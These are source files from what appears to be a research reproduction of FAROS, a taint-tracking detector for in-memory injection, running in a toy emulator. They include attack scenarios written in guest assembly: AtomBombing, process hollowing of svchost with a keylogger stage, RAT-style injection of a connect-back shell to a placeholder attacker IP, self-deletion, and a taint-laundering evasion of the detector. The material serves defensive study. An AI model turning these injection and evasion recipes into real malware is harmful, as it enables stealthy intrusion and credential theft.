    def _decode_args(self, process, number: int, raw_args) -> Dict[str, object]:
        decoded: Dict[str, object] = {}
        for spec, value in zip(arg_specs(number), raw_args):
            if spec.kind is ArgKind.PTR_STR:
                decoded[spec.name] = self._read_string(process, value)
            elif spec.kind in (ArgKind.PTR_IN, ArgKind.PTR_OUT):
                decoded[spec.name] = f"ptr:{value:#x}"
            elif spec.kind is ArgKind.VADDR:
                decoded[spec.name] = f"{value:#x}"
            else:
                decoded[spec.name] = value
        return decoded

    def _read_string(self, process, vaddr: int, limit: int = 128) -> str:
        """Follow a guest string pointer (best-effort; bad pointers show
        as a placeholder rather than failing the trace)."""
        out = bytearray()
        try:
            for i in range(limit):
                # The machine reference is not stored; translate through
                # the process and read lazily via its allocator's memory.
                paddr = process.aspace.translate(vaddr + i, AccessKind.READ)
                byte = self._memory.read_byte(paddr)
                if byte == 0:
                    break
                out.append(byte)
        except Exception:
            return f"<bad ptr {vaddr:#x}>"
        return out.decode("latin-1")

    # The memory handle is captured at machine start (plugins are
    # machine-agnostic until attached).
    def on_machine_start(self, machine) -> None:
        self._memory = machine.memory

    # -- queries ---------------------------------------------------------------------

    def for_process(self, name: str) -> List[SyscallEvent]:
        return [e for e in self.events if e.process.lower() == name.lower()]

    def calls_named(self, api_name: str) -> List[SyscallEvent]:
        return [e for e in self.events if e.name == api_name]
