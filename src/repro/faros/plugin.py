"""The FAROS plugin: taint + tag insertion + detection, in one attachable
unit (the PANDA-plugin analog of the paper's Fig. 3 architecture).

:class:`Faros` owns a :class:`~repro.taint.tracker.TaintTracker` and
forwards the emulator's execution callbacks to it, then layers FAROS'
own logic on the remaining callbacks:

* **netflow tag insertion** on packet receive (every payload byte);
* **file tag insertion** on file reads (loaded content) and writes
  (the buffer being persisted), with per-access versions;
* **export-table tag insertion** on module load (each function-pointer
  field of the export table);
* **OS introspection** (CR3 -> process name) for readable provenance;
* the **confluence detector** registered as a taint-load listener.

Register a single ``Faros`` instance on a machine (or pass it to
``replay``) -- it handles everything.
"""

from __future__ import annotations

from typing import Optional

from dataclasses import dataclass

from repro.emulator.plugins import Plugin
from repro.faros.detector import DetectionConfig, Detector
from repro.faros.osi import OSIPlugin
from repro.faros.report import FarosReport
from repro.isa.cpu import AccessKind
from repro.obs.metrics import MetricsRegistry, NULL_REGISTRY
from repro.taint.policy import TaintPolicy
from repro.taint.tags import TagStore
from repro.taint.tracker import TaintTracker, register_tracker_metrics


@dataclass(frozen=True)
class TimelineEvent:
    """One entry of the analyst-facing chronology."""

    tick: int
    kind: str
    description: str

    def __str__(self) -> str:
        return f"[{self.tick:>10}] {self.kind:<14} {self.description}"


class Faros(Plugin):
    """Whole-system provenance DIFT with in-memory-injection flagging."""

    name = "faros"

    def __init__(
        self,
        policy: Optional[TaintPolicy] = None,
        detection: Optional[DetectionConfig] = None,
        augment_export_tags: bool = True,
        taint_kernel_code: bool = False,
        tracker_cls=TaintTracker,
        metrics: Optional[MetricsRegistry] = None,
        taint_pipeline: Optional[str] = None,
    ) -> None:
        """Create the plugin.

        :param augment_export_tags: mint per-function export-table tags
            (the paper's §V-A future work) so reports name the API each
            flagged load resolved.  Off = the paper's single anonymous
            export-table tag.
        :param taint_kernel_code: additionally taint the kernel module's
            *code* bytes with export-table tags.  This is the §VI-B
            "update the policy" response to resolvers that scan kernel
            code for API stubs instead of reading the export table
            (ROP-style function discovery).
        :param tracker_cls: the taint core to run on.  Defaults to the
            fast-path :class:`~repro.taint.tracker.TaintTracker`; the
            differential harness passes
            :class:`~repro.taint.reference.ReferenceTaintTracker` to
            check detection verdicts never drift between the two.
        :param metrics: a :class:`~repro.obs.metrics.MetricsRegistry` to
            publish taint/detector instrumentation into.  ``None`` binds
            the shared null registry -- the analysis hot paths then touch
            only no-op counter singletons.
        :param taint_pipeline: transport mode for the taint event stream
            (``"inline"``/``"batched"``/``"worker"``).  ``None`` defers
            to ``MachineConfig.taint_pipeline`` at machine start (whose
            default, ``inline``, is the pre-pipeline behaviour).
        """
        super().__init__()
        self.metrics = metrics if metrics is not None else NULL_REGISTRY
        self.tags = TagStore()
        self.tracker = tracker_cls(
            policy=policy or TaintPolicy(),
            tags=self.tags,
            taint_pipeline=taint_pipeline,
        )
        #: The channel-event transport feeding the tracker.  Exposing it
        #: here lets the plugin manager auto-register it ahead of this
        #: plugin, and gives FAROS' tag-insertion hooks their emission
        #: surface.
        self.pipeline = self.tracker.pipeline
        # Fast trackers expose a flag-cache-capable shadow; the detector
        # then pre-checks confluence with per-page summary words.  The
        # byte-at-a-time reference tracker's shadow is quietly ignored.
        self.detector = Detector(
            self.tags,
            detection,
            metrics=self.metrics,
            shadow=getattr(self.tracker, "shadow", None),
            pipeline=self.pipeline,
        )
        if self.metrics.enabled:
            register_tracker_metrics(self.metrics, self.tracker)
        self.osi = OSIPlugin()
        self.augment_export_tags = augment_export_tags
        self.taint_kernel_code = taint_kernel_code
        #: Provenance of every buffer written to disk, keyed by lowercase
        #: file path: ``[(version, prov), ...]`` in write order.  This is
        #: what lets reports stitch provenance across the disk when a
        #: dropper persists its stage and reloads it later.
        self.file_lineage = {}
        #: Chronological record of analysis-relevant events, so the
        #: analyst reads one story instead of correlating four logs.
        self.timeline = []
        #: The machine-level fault that cut this run short (a
        #: :class:`~repro.faults.errors.FaultRecord`), or None for a
        #: clean run.  When set, :meth:`report` marks itself degraded.
        self.fault_record = None
        self.tracker.add_load_listener(self.detector.observe_load)
        self.detector.on_flag.append(self._record_flag)

    def _note(self, tick: int, kind: str, description: str) -> None:
        self.timeline.append(TimelineEvent(tick, kind, description))

    def _record_flag(self, flagged) -> None:
        self._note(
            flagged.tick,
            "FLAG",
            f"{flagged.executing_process}({flagged.executing_pid}) executed "
            f"injected `{flagged.insn_text}` @ {flagged.pc:#x} reading the "
            f"export table ({flagged.rule})",
        )

    # ------------------------------------------------------------------
    # forwarding to the taint core
    # ------------------------------------------------------------------

    def on_insn_exec(self, machine, thread, fx) -> None:
        self.tracker.on_insn_exec(machine, thread, fx)

    def wants_insn_effects(self) -> bool:
        return self.tracker.wants_insn_effects()

    def block_taint_unit(self):
        """FAROS' per-instruction need is exactly its tracker's Table I
        propagation (detection rides on the tracker's load listeners),
        so the translated-tainted tier may stand in for the interpreter
        whenever the tracker supports it.  Reference trackers inherit
        the base ``None`` and keep forcing the full effect stream."""
        return getattr(self.tracker, "block_taint_unit", lambda: None)()

    def on_insns_skipped(self, machine, thread, count) -> None:
        self.tracker.on_insns_skipped(machine, thread, count)

    # The physical channels (external writes, kernel copies, frame
    # frees) no longer forward through this plugin: the tracker's
    # auto-registered TaintPipeline receives those hooks directly, ahead
    # of Faros in registration order, and streams them to the tracker as
    # packed TaintEvent batches.

    # ------------------------------------------------------------------
    # FAROS tag-insertion hooks (§V-A "Tag Insertion")
    # ------------------------------------------------------------------

    def on_packet_receive(self, machine, packet, paddrs) -> None:
        """Taint every byte of an inbound packet with its netflow tag."""
        tag = self.tags.netflow_tag(
            packet.src_ip, packet.src_port, packet.dst_ip, packet.dst_port
        )
        self.pipeline.taint(paddrs, tag)
        self._note(
            machine.now,
            "netflow",
            f"{len(packet.payload)} bytes from {packet.src_ip}:{packet.src_port} "
            f"to port {packet.dst_port} tainted",
        )

    def on_file_read(self, machine, process, path, version, paddrs) -> None:
        """Taint file content loaded into memory with a file tag."""
        self.pipeline.taint(paddrs, self.tags.file_tag(path, version))

    def on_file_write(self, machine, process, path, version, paddrs) -> None:
        """Taint the buffer being written into a file with a file tag.

        The buffer's *pre-existing* provenance is recorded against
        ``(path, version)`` first: the disk hop re-materialises content
        on later reads, and this record is the splice point that lets
        :meth:`~repro.faros.report.FarosReport.render` name the true
        origin of dropped-then-reloaded payloads.
        """
        # prov_of_range is itself a sync barrier: the lineage snapshot
        # must reflect every queued channel event before this write.
        origin = self.tracker.prov_of_range(paddrs)
        self.file_lineage.setdefault(path.lower(), []).append((version, origin))
        self.pipeline.taint(paddrs, self.tags.file_tag(path, version))
        if origin:
            self._note(
                machine.now,
                "file-write",
                f"{process.name} wrote tainted bytes into {path} (v{version})",
            )

    def on_module_load(self, machine, process, module) -> None:
        """Taint the export table's function-pointer bytes.

        With :attr:`augment_export_tags`, each pointer gets a tag naming
        its function; with :attr:`taint_kernel_code`, the module's whole
        image (stub code included) is tagged so that stub-scanning
        resolvers are caught too.
        """
        if not module.export_pointer_vaddrs:
            return
        names = module.export_pointer_names or (None,) * len(
            module.export_pointer_vaddrs
        )
        for pointer_vaddr, name in zip(module.export_pointer_vaddrs, names):
            paddrs = process.aspace.translate_range(pointer_vaddr, 4, AccessKind.READ)
            tag = self.tags.export_table_tag(name if self.augment_export_tags else None)
            self.pipeline.taint(paddrs, tag)
        if self.taint_kernel_code:
            code_paddrs = process.aspace.translate_range(
                module.base, module.size, AccessKind.READ
            )
            self.pipeline.taint(code_paddrs, self.tags.export_table_tag())

    # ------------------------------------------------------------------
    # OS introspection plumbing
    # ------------------------------------------------------------------

    def on_process_create(self, machine, process) -> None:
        self.osi.on_process_create(machine, process)
        self.tags.process_names[process.cr3] = process.name
        suffix = " (suspended)" if process.created_suspended else ""
        self._note(
            machine.now,
            "process",
            f"{process.name} started, pid={process.pid} cr3={process.cr3:#x}{suffix}",
        )

    def on_process_exit(self, machine, process, status) -> None:
        self.osi.on_process_exit(machine, process, status)
        self.tracker.on_process_exit(machine, process, status)
        self._note(
            machine.now, "process", f"{process.name}(pid={process.pid}) exited ({status:#x})"
        )

    def on_machine_fault(self, machine, record) -> None:
        """Record faults so the report can flag itself degraded.

        Non-terminal injected faults arrive first, then (if the run
        dies) the terminal one -- keeping the *last* record means the
        report carries the fault that actually ended the run.
        """
        self.fault_record = record
        self._note(machine.now, "fault", record.describe())

    # ------------------------------------------------------------------
    # results
    # ------------------------------------------------------------------

    @property
    def attack_detected(self) -> bool:
        return self.detector.attack_detected

    def report(self) -> FarosReport:
        """Produce the analysis report (call after the run completes)."""
        # Final synchronization barrier: apply any still-queued channel
        # events and reap the worker-mode consumer (close() records its
        # cross-check and is a no-op for inline/batched transports).
        self.pipeline.close()
        return FarosReport(
            flagged=list(self.detector.flagged),
            tag_store=self.tags,
            tainted_bytes=self.tracker.shadow.tainted_bytes,
            tag_map_sizes=self.tags.sizes(),
            instructions_analyzed=self.tracker.stats.instructions,
            file_lineage={k: list(v) for k, v in self.file_lineage.items()},
            fault=(
                self.fault_record.to_json_dict()
                if self.fault_record is not None
                else None
            ),
        )

    def render_timeline(self) -> str:
        """The analyst-facing chronology of the whole run."""
        lines = ["=== FAROS timeline ==="]
        lines.extend(str(event) for event in self.timeline)
        return "\n".join(lines)
