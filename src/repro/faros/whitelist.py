"""Analyst whitelisting of known JIT runtimes (§VI-A).

The paper's false positives "always involve well-known Just-In-Time
compilers (e.g., Java)" and "can be dismissed/whitelisted by an analyst
in a straightforward fashion".  This module is that dismissal step: a
:class:`Whitelist` of process names whose flags are reclassified as
benign JIT activity rather than dropped — an analyst wants to see that
the JIT did JIT things, not to un-know it.

A whitelist matches on the *executing* process (the one running the
generated code).  It deliberately does not match on the injector side:
a malicious process injecting into ``java.exe`` still produces a
cross-process chain whose injector is not whitelisted, and stays
flagged — see the tests.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, List, Set

from repro.faros.detector import FlaggedInstruction
from repro.obs.metrics import NULL_REGISTRY
from repro.taint.tags import TagType

#: Runtimes the paper's analyst would whitelist out of the box.
DEFAULT_JIT_RUNTIMES = frozenset({"java.exe", "browser.exe"})


@dataclass
class TriagedFlag:
    """One flag after whitelist triage."""

    flag: FlaggedInstruction
    dismissed: bool
    reason: str


class Whitelist:
    """Process-name whitelist for JIT-style self-generating code."""

    def __init__(
        self,
        process_names: Iterable[str] = DEFAULT_JIT_RUNTIMES,
        metrics=None,
    ) -> None:
        self._names: Set[str] = {name.lower() for name in process_names}
        m = metrics if metrics is not None else NULL_REGISTRY
        self._ctr_dismissed = m.counter("faros.whitelist.dismissed")
        self._ctr_kept = m.counter("faros.whitelist.kept")

    def add(self, process_name: str) -> None:
        self._names.add(process_name.lower())

    def covers(self, process_name: str) -> bool:
        return process_name.lower() in self._names

    def triage(self, flags: Iterable[FlaggedInstruction]) -> List[TriagedFlag]:
        """Classify each flag; only *self-generated* code in a
        whitelisted process is dismissed."""
        out: List[TriagedFlag] = []
        for flag in flags:
            process_tags = {
                t for t in flag.insn_prov if t.type is TagType.PROCESS
            }
            self_generated = len(process_tags) <= 1
            if self.covers(flag.executing_process) and self_generated:
                self._ctr_dismissed.inc()
                out.append(
                    TriagedFlag(
                        flag=flag,
                        dismissed=True,
                        reason=(
                            f"{flag.executing_process} is a whitelisted JIT "
                            "runtime executing its own generated code"
                        ),
                    )
                )
            else:
                reason = "not whitelisted"
                if self.covers(flag.executing_process) and not self_generated:
                    reason = (
                        "whitelisted process, but the code was written by "
                        "another process (injection, not JIT)"
                    )
                self._ctr_kept.inc()
                out.append(TriagedFlag(flag=flag, dismissed=False, reason=reason))
        return out

    def remaining(self, flags: Iterable[FlaggedInstruction]) -> List[FlaggedInstruction]:
        """Flags that survive triage (true detections)."""
        return [t.flag for t in self.triage(flags) if not t.dismissed]
