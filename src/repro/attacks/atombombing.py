"""AtomBombing-style injection: no ``WriteProcessMemory`` anywhere.

The technique (Microsoft's "stealthier cross-process injection" family,
the paper's ref [1]) smuggles the payload through the **global atom
table** -- kernel-owned storage any process can read -- and makes the
*victim itself* pull the bytes in via an APC aimed at
``GlobalGetAtomNameA``:

1. malware receives the stage and parks it in an atom
   (``GlobalAddAtomA``);
2. malware allocates an RWX cave in the victim (the only direct touch);
3. an APC forces the victim to call ``GlobalGetAtomNameA(atom, cave)``
   -- the cross-process data movement is performed *by the victim*;
4. a second APC enters the cave.

Behavioural significance: the ``NtWriteVirtualMemory`` event that
sandbox signatures key on never happens (the Cuckoo baseline's
``writes_remote_memory`` signature stays silent).  Information-flow
significance: nothing changes -- netflow taint rides through the atom
table's kernel frames like any other copy, both process tags accrue,
and FAROS flags the stage at its first export-table read.
"""

from __future__ import annotations

from repro.attacks.common import (
    ATTACKER_IP,
    ATTACKER_PORT,
    FIRST_EPHEMERAL_PORT,
    GUEST_IP,
    PAYLOAD_BASE,
    assemble_image,
    benign_host_asm,
    recv_exact_asm,
)
from repro.attacks.metasploit import AttackScenario
from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario
from repro.guestos.loader import stub_address


def _atombomber_asm(payload_size: int, target_name: str) -> str:
    return f"""
    start:
        ; stage delivery over the C2 session
        movi r0, SYS_SOCKET
        syscall
        mov r7, r0
        mov r1, r7
        movi r2, attacker_ip
        movi r3, {ATTACKER_PORT}
        movi r0, SYS_CONNECT
        syscall
{recv_exact_asm("r7", "stage_buf", payload_size, "atom")}
        ; park the stage in the GLOBAL ATOM TABLE (kernel memory)
        movi r1, stage_buf
        movi r2, {payload_size}
        movi r0, SYS_ADD_ATOM
        syscall
        mov r7, r0                  ; atom id
        ; open the victim
        movi r1, target_name
        movi r0, SYS_FIND_PROCESS
        syscall
        mov r1, r0
        movi r0, SYS_OPEN_PROCESS
        syscall
        mov r6, r0
        ; an RWX cave in the victim (no data written to it by us!)
        mov r1, r6
        movi r2, {payload_size}
        movi r3, PERM_RWX
        movi r4, {PAYLOAD_BASE:#x}
        movi r0, SYS_ALLOC_VM
        syscall
        ; APC #1: the VICTIM calls GlobalGetAtomNameA(atom, cave, size)
        mov r1, r6
        movi r2, {stub_address('GlobalGetAtomNameA'):#x}
        mov r3, r7                  ; arg1 = atom id
        movi r4, {PAYLOAD_BASE:#x}  ; arg2 = cave
        movi r5, {payload_size}     ; arg3 = size
        movi r0, SYS_QUEUE_APC
        syscall
        ; give the victim time to run the fetch APC
        movi r1, 5000
        movi r0, SYS_SLEEP
        syscall
        ; APC #2: enter the stage
        mov r1, r6
        movi r2, {PAYLOAD_BASE + PAYLOAD_ENTRY_OFFSET:#x}
        movi r3, 0
        movi r4, 0
        movi r5, 0
        movi r0, SYS_QUEUE_APC
        syscall
        ; anti-forensics
        movi r1, own_path
        movi r0, SYS_DELETE_FILE
        syscall
        movi r1, 0
        movi r0, SYS_EXIT
        syscall
    attacker_ip: .asciz "{ATTACKER_IP}"
    target_name: .asciz "{target_name}"
    own_path: .asciz "atombomber.exe"
    stage_buf: .space {payload_size}
    """


def build_atombombing_scenario(target_name: str = "explorer.exe") -> AttackScenario:
    """AtomBombing into *target_name* with the popup stage."""
    stage = build_popup_payload(PAYLOAD_BASE)
    payload = stage.code

    def setup(machine) -> None:
        machine.kernel.register_image(
            target_name, assemble_image(benign_host_asm(f"{target_name} up"))
        )
        machine.kernel.spawn(target_name)
        machine.kernel.register_image(
            "atombomber.exe", assemble_image(_atombomber_asm(len(payload), target_name))
        )
        machine.kernel.spawn("atombomber.exe")

    events = [
        (
            20_000,
            PacketEvent(
                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
            ),
        )
    ]
    return AttackScenario(
        scenario=Scenario(
            name="atombombing",
            setup=setup,
            events=events,
            max_instructions=500_000,
        ),
        client_process="atombomber.exe",
        target_process=target_name,
        payload_size=len(payload),
        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
        module="atombombing",
    )
