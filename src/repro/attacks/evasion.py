"""Evasion techniques against FAROS itself (§VI-D).

The paper is explicit that a FAROS-aware attacker has options, and
names two; both are implemented here so the E12 experiments can measure
them:

* **taint laundering via control dependencies** -- "a dedicated attack
  could copy data bit-by-bit using an if statement in a for loop ...
  the output would be identical to the input but would be untainted."
  :func:`build_laundering_attack_scenario` is the reverse_tcp-style
  self-injection with the stage copied through exactly that loop.
  Default FAROS misses it; the policy update the paper anticipates
  (enabling scoped control-dependency propagation) catches it again.

* **tag-memory exhaustion** -- "an evasion technique could leverage
  this design to exhaust FAROS' memory."
  :func:`build_tag_pressure_scenario` is a guest that manufactures
  provenance pressure: a stream of distinct file versions and network
  flows, each of which mints a fresh tag-map entry.
"""

from __future__ import annotations

from repro.attacks.common import (
    ATTACKER_IP,
    ATTACKER_PORT,
    FIRST_EPHEMERAL_PORT,
    GUEST_IP,
    assemble_image,
    recv_exact_asm,
)
from repro.attacks.metasploit import AttackScenario, _injector_asm
from repro.attacks.payloads import (
    PAYLOAD_ENTRY_OFFSET,
    build_popup_payload,
    build_scanner_payload,
)
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario
from repro.guestos import layout


def _laundering_injector_asm(payload_size: int) -> str:
    """Self-injection whose stage copy goes through the Fig. 2 launderer."""
    return f"""
    start:
        movi r0, SYS_SOCKET
        syscall
        mov r7, r0
        mov r1, r7
        movi r2, attacker_ip
        movi r3, {ATTACKER_PORT}
        movi r0, SYS_CONNECT
        syscall
{recv_exact_asm("r7", "stage_buf", payload_size, "stage")}
        movi r1, {payload_size}
        movi r2, PERM_RWX
        movi r0, SYS_ALLOC
        syscall
        mov r6, r0
        ; ---- the §VI-D launderer: copy bit-by-bit through branches ----
        movi r1, stage_buf
        mov r2, r6
        movi r3, {payload_size}
    louter:
        ldb r4, [r1]
        movi r5, 1
    lbit:
        and r0, r4, r5
        cmpi r0, 0
        jz lskip
        ldb r0, [r2]
        or r0, r0, r5
        stb [r2], r0
    lskip:
        shli r5, r5, 1
        cmpi r5, 256
        jnz lbit
        addi r1, r1, 1
        addi r2, r2, 1
        subi r3, r3, 1
        cmpi r3, 0
        jnz louter
        ; ---- run the laundered (identical, untainted) stage ----
        addi r6, r6, {PAYLOAD_ENTRY_OFFSET}
        callr r6
        hlt
    attacker_ip: .asciz "{ATTACKER_IP}"
    stage_buf: .space {payload_size}
    """


def build_laundering_attack_scenario() -> AttackScenario:
    """The §VI-D control-dependency laundering attack."""
    stage = build_popup_payload(layout.HEAP_BASE)
    payload = stage.code

    def setup(machine) -> None:
        machine.kernel.register_image(
            "launder_client.exe", assemble_image(_laundering_injector_asm(len(payload)))
        )
        machine.kernel.spawn("launder_client.exe")

    events = [
        (
            20_000,
            PacketEvent(
                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
            ),
        )
    ]
    return AttackScenario(
        scenario=Scenario(
            name="laundering_attack",
            setup=setup,
            events=events,
            max_instructions=1_200_000,
        ),
        client_process="launder_client.exe",
        target_process="launder_client.exe",
        payload_size=len(payload),
        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
        module="control_dep_laundering",
    )


def build_stub_scanner_attack_scenario() -> AttackScenario:
    """Reflective injection whose stage resolves APIs by scanning kernel
    code rather than reading the export table (the ROP-style §VI-B
    evasion).  The delivery chain is the standard netflow injection into
    notepad.exe; only the resolution step differs."""
    from repro.attacks.common import PAYLOAD_BASE, benign_host_asm

    stage = build_scanner_payload(PAYLOAD_BASE)
    payload = stage.code

    def setup(machine) -> None:
        machine.kernel.register_image(
            "notepad.exe", assemble_image(benign_host_asm("notepad.exe up"))
        )
        machine.kernel.spawn("notepad.exe")
        machine.kernel.register_image(
            "inject_client.exe",
            assemble_image(_injector_asm(len(payload), "notepad.exe")),
        )
        machine.kernel.spawn("inject_client.exe")

    events = [
        (
            20_000,
            PacketEvent(
                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
            ),
        )
    ]
    return AttackScenario(
        scenario=Scenario(
            name="stub_scanner_attack",
            setup=setup,
            events=events,
            max_instructions=500_000,
        ),
        client_process="inject_client.exe",
        target_process="notepad.exe",
        payload_size=len(payload),
        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
        module="stub_scanner",
    )


def build_tag_pressure_scenario(file_rounds: int = 40, flows: int = 20) -> Scenario:
    """A guest that mints tag-map entries as fast as it can.

    Every ``NtWriteFile`` access bumps the file's version and every
    distinct version is a fresh file tag; every inbound flow is a fresh
    netflow tag.  The E12 experiment measures map growth against the
    16-bit index ceiling.
    """
    source = f"""
    start:
        movi r1, path
        movi r0, SYS_CREATE_FILE
        syscall
        mov r7, r0
        movi r6, {file_rounds}
    churn:
        mov r1, r7
        movi r2, blob
        movi r3, 8
        movi r0, SYS_WRITE_FILE
        syscall
        subi r6, r6, 1
        cmpi r6, 0
        jnz churn
        ; now sit listening so every probe flow reaches us
        movi r0, SYS_SOCKET
        syscall
        mov r7, r0
        mov r1, r7
        movi r2, 7000
        movi r0, SYS_LISTEN
        syscall
    drain:
        mov r1, r7
        movi r0, SYS_ACCEPT
        syscall
        jmp drain
    path: .asciz "C:\\\\churn.dat"
    blob: .ascii "AAAABBBB"
    """

    def setup(machine) -> None:
        machine.kernel.register_image("pressure.exe", assemble_image(source))
        machine.kernel.spawn("pressure.exe")

    events = [
        (
            30_000 + i * 2_000,
            PacketEvent(
                Packet(ATTACKER_IP, 10_000 + i, GUEST_IP, 7000, b"\xcc" * 16)
            ),
        )
        for i in range(flows)
    ]
    return Scenario(
        name="tag_pressure",
        setup=setup,
        events=events,
        max_instructions=600_000,
    )
