"""In-memory injection attacks (the paper's §II threat model).

Each attack is a complete, runnable guest scenario built from real guest
programs:

* :mod:`~repro.attacks.metasploit` -- reflective DLL injection via the
  three Metasploit modules the paper evaluates
  (``reflective_dll_inject``, ``reverse_tcp_dns``,
  ``bypassuac_injection``);
* :mod:`~repro.attacks.process_hollowing` -- the Lab 3-3-style
  hollowing of ``svchost.exe`` with a keylogger payload;
* :mod:`~repro.attacks.code_injection` -- DarkComet/Njrat-style remote
  code injection into a benign process;
* :mod:`~repro.attacks.payloads` -- the injected payloads themselves,
  which resolve their imports from the export table exactly as real
  shellcode does (the behaviour FAROS keys on);
* :mod:`~repro.attacks.evasion` -- §VI-D evasion studies (taint
  laundering via control dependencies, tag-memory pressure).

All payloads arrive or act without ever registering a module with the
loader or dropping the payload to disk -- the attacks are in-memory-only
from the sandbox's point of view, which is what defeats the baselines.
"""

from repro.attacks.atombombing import build_atombombing_scenario
from repro.attacks.code_injection import build_code_injection_scenario
from repro.attacks.common import ATTACKER_IP, ATTACKER_PORT, GUEST_IP, PAYLOAD_BASE
from repro.attacks.dropper import build_drop_reload_scenario
from repro.attacks.metasploit import (
    build_bypassuac_injection_scenario,
    build_reflective_dll_scenario,
    build_reverse_tcp_dns_scenario,
)
from repro.attacks.process_hollowing import build_process_hollowing_scenario

__all__ = [
    "ATTACKER_IP",
    "ATTACKER_PORT",
    "GUEST_IP",
    "PAYLOAD_BASE",
    "build_atombombing_scenario",
    "build_bypassuac_injection_scenario",
    "build_code_injection_scenario",
    "build_drop_reload_scenario",
    "build_process_hollowing_scenario",
    "build_reflective_dll_scenario",
    "build_reverse_tcp_dns_scenario",
]
