"""Process hollowing / replacement (§II, Fig. 10).

``process_hollowing.exe`` (the Lab 3-3 analog) carries a keylogger
stage embedded in its own image, then:

1. ``CreateProcess("svchost.exe", CREATE_SUSPENDED)``
2. ``NtUnmapViewOfSection`` on the child's image base
3. ``VirtualAllocEx`` fresh RWX memory at the same base
4. ``WriteProcessMemory`` the stage over it
5. ``SetThreadContext`` the main thread to the stage's entry
6. ``ResumeThread``

The child keeps its name and its place in the process tree; only its
memory is someone else.  No network is involved, which is why the
provenance chain FAROS reports is the paper's Fig. 10 shape --
``process_hollowing.exe -> svchost.exe`` plus the export-table read --
with file tags showing the stage came out of the malware's own image.
"""

from __future__ import annotations

from repro.attacks.common import assemble_image, benign_host_asm, bytes_to_asm
from repro.attacks.metasploit import AttackScenario
from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_keylogger_payload
from repro.emulator.record_replay import KeystrokeEvent, Scenario
from repro.guestos import layout


def _hollower_asm(payload: bytes) -> str:
    return f"""
    start:
        ; fork the benign child, suspended
        movi r1, child_image
        movi r2, 1                  ; CREATE_SUSPENDED
        movi r0, SYS_CREATE_PROCESS
        syscall
        mov r7, r0
        ; carve out its image
        mov r1, r7
        movi r2, IMAGE_BASE
        movi r0, SYS_UNMAP_VM
        syscall
        ; fresh RWX memory at the same base
        mov r1, r7
        movi r2, {len(payload)}
        movi r3, PERM_RWX
        movi r4, IMAGE_BASE
        movi r0, SYS_ALLOC_VM
        syscall
        ; write the keylogger image over it
        mov r1, r7
        movi r2, IMAGE_BASE
        movi r3, payload_blob
        movi r4, {len(payload)}
        movi r0, SYS_WRITE_VM
        syscall
        ; point the suspended main thread at the new entry
        mov r1, r7
        movi r2, IMAGE_BASE+{PAYLOAD_ENTRY_OFFSET}
        movi r0, SYS_SET_CONTEXT
        syscall
        ; let it run
        mov r1, r7
        movi r0, SYS_RESUME_THREAD
        syscall
        movi r1, 0
        movi r0, SYS_EXIT
        syscall
    child_image: .asciz "svchost.exe"
    payload_blob:
{bytes_to_asm(payload)}
    """


def build_process_hollowing_scenario(
    transient: bool = False,
    keystrokes: bytes = b"hunter2",
) -> AttackScenario:
    """The Fig. 10 experiment: hollow svchost.exe into a keylogger."""
    stage = build_keylogger_payload(layout.IMAGE_BASE, transient=transient)
    payload = stage.code

    def setup(machine) -> None:
        machine.kernel.register_image(
            "svchost.exe", assemble_image(benign_host_asm("svchost service up"))
        )
        machine.kernel.register_image(
            "process_hollowing.exe", assemble_image(_hollower_asm(payload))
        )
        machine.kernel.spawn("process_hollowing.exe")

    events = [(30_000, KeystrokeEvent(keystrokes))]
    return AttackScenario(
        scenario=Scenario(
            name="process_hollowing",
            setup=setup,
            events=events,
            max_instructions=400_000,
        ),
        client_process="process_hollowing.exe",
        target_process="svchost.exe",
        payload_size=len(payload),
        attacker_endpoint="(no network)",
        module="process_hollowing",
    )
