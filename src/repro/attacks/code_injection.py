"""Code/process injection by DarkComet / Njrat-style RATs (§II, §VI).

The RAT client downloads a connect-back shell stage from its C2, then
forces ``explorer.exe`` to run it: ``OpenProcess`` ->
``VirtualAllocEx(RWX)`` -> ``WriteProcessMemory`` ->
``CreateRemoteThread``.  The stage, executing *inside the benign
process*, resolves ``socket``/``connect``/``recv``/``WinExec`` from the
export table, dials the C2, and executes whatever commands arrive --
"forcing another process to perform actions on its behalf" while the
RAT itself can exit.

Netflow + malicious-process + victim-process tags converge on the
stage's bytes, so the provenance FAROS reports matches the paper's
reflective-DLL chains (§VI: "Results ... were similar").
"""

from __future__ import annotations

from repro.attacks.common import (
    ATTACKER_IP,
    ATTACKER_PORT,
    FIRST_EPHEMERAL_PORT,
    GUEST_IP,
    PAYLOAD_BASE,
    assemble_image,
    benign_host_asm,
    recv_exact_asm,
)
from repro.attacks.metasploit import AttackScenario, _injector_asm
from repro.attacks.payloads import build_shell_payload
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario

#: The C2 port the injected stage dials back to.
C2_PORT = 5555


def build_code_injection_scenario(
    rat: str = "darkcomet",
    target_name: str = "explorer.exe",
    command: bytes = b"calc.exe",
    transient: bool = False,
) -> AttackScenario:
    """Inject a connect-back shell into *target_name* and drive it.

    *rat* picks the malware's process name (``darkcomet`` or ``njrat``
    in the paper's evaluation); the injection mechanics are identical.
    """
    rat_image = f"{rat}.exe"
    stage = build_shell_payload(
        PAYLOAD_BASE, c2_ip=ATTACKER_IP, c2_port=C2_PORT, transient=transient
    )
    payload = stage.code

    def setup(machine) -> None:
        machine.kernel.register_image(
            target_name, assemble_image(benign_host_asm(f"{target_name} up"))
        )
        machine.kernel.spawn(target_name)
        # The RAT reuses the Meterpreter-style injector body; only the
        # stage differs.  Its on-disk name is the RAT's.
        source = _injector_asm(len(payload), target_name).replace(
            'own_path: .asciz "inject_client.exe"',
            f'own_path: .asciz "{rat_image}"',
        )
        machine.kernel.register_image(rat_image, assemble_image(source))
        machine.kernel.spawn(rat_image)

    events = [
